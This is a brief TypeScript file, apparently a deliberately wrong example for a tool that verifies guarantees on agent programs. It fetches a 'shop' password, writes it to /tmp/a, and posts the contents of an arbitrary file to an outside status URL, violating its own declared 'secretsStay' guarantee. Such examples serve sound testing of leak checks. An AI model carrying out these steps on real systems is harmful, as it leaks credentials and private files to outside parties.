/** Wrong: writes the password to a file, and sends what it reads from another. */
import { program } from "foreclaim";
import * as agent from "./tools/agent";

export default program({
  guarantees: [agent.secretsStay()],
  async run({ path }: { path: string }) {
    const password = await agent.secret({ name: "shop" });
    await agent.save({ path: "/tmp/a", text: password });
    const text = await agent.load({ path });
    await agent.post({ url: "https://status.example.com", body: text });
  },
});
